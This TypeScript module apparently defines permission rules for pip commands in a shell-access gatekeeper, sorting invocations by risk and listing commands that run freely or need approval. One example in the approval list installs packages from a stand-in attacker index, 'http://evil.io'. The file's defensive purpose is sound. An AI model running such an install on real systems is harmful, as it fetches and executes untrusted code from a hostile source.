import { defineProgram, type ProgramUse } from "../../define-program.ts";

const PIP_INSTALL = {
  does: "install" as const,
  operands: "value" as const,
  options:
    "-r:c --requirement:c -e:c --editable:c -c:c --constraint:c -U --upgrade=install -q -v --quiet --verbose --no-deps --no-cache-dir --disable-pip-version-check --require-hashes --user=install -t:w=install --target:w=install --prefix:w=install --root:w=install --pre=install -i:h --index-url:h --extra-index-url:h -f:h --find-links:h --trusted-host:h --no-index --no-build-isolation --dry-run --force-reinstall --ignore-installed -I --compile --no-compile --only-binary: --no-binary: --prefer-binary --progress-bar: --python: --break-system-packages=install --upgrade-strategy: --no-input --timeout: --retries: --proxy:h --report:w",
  // This installs the project itself, or what its requirements file lists. A package name on the command line is new
  // code.
  check: ({ options, operands, does }: ProgramUse) =>
    operands.length === 0 &&
    options.some(({ name }) => /^(-r|--requirement|-e|--editable)$/.test(name)) &&
    does === "install" &&
    options.every((option) => option.does === null || option.name === "-U") &&
    // A list or a project on another machine is not part of this project.
    !options.some(({ value }) => /^\w+\+|:\/\//.test(value?.text ?? ""))
      ? ("restore" as const)
      : ("install" as const),
};

export const PIP = [
  defineProgram({
    names: "pip pip3 pip3.11 pip3.12 pip3.13",
    does: "install",
    options:
      "-q -v -V --quiet --verbose --disable-pip-version-check --no-input --python:x --isolated --require-virtualenv --no-color --log:w --proxy:h --cert:r --trusted-host:h",
    verbs: {
      "list freeze show check inspect debug index hash help search completion": {
        does: "read",
        operands: "value",
        isOpen: true,
        options:
          "--path:r --format: --outdated -o --uptodate -u --editable -e --local -l --user --not-required --exclude: --include-editable --exclude-editable --pre -a: --algorithm: -f --files --index-url:h -i:h --extra-index-url:h --platform: --python-version:",
      },
      cache: {
        does: "change",
        operands: "value",
        verbs: { "dir info list": { does: "read", operands: "value", options: "--format:" }, "remove purge": "change" },
      },
      config: {
        does: "change",
        operands: "value",
        isOpen: true,
        verbs: {
          "list debug": { does: "read", operands: "value" },
          // The address of an index often contains a password.
          get: {
            does: "read",
            operands: "value",
            check: ({ operands }) => (operands.some(({ text }) => /(?:index-url|proxy)$/.test(text)) ? "secret" : null),
          },
          "set unset edit": "change",
        },
      },
      install: PIP_INSTALL,
      "uninstall download wheel lock": { does: "install", operands: "value", isOpen: true },
    },
    runs: [
      "pip list",
      "pip show requests",
      "pip install -r requirements.txt",
      "pip install -e '.[dev]' -q",
      "pip freeze",
      "pip config get global.timeout",
    ],
    asks: [
      "pip install requests",
      "pip config get global.extra-index-url",
      "pip install -e git+https://example.com/x",
      "pip install -r https://example.com/r.txt",
      "pip install -U pip",
      "pip uninstall x",
      "pip install -r /tmp/r.txt",
      "pip install -r requirements.txt --index-url http://evil.io",
      "pip cache purge",
    ],
  }),
];
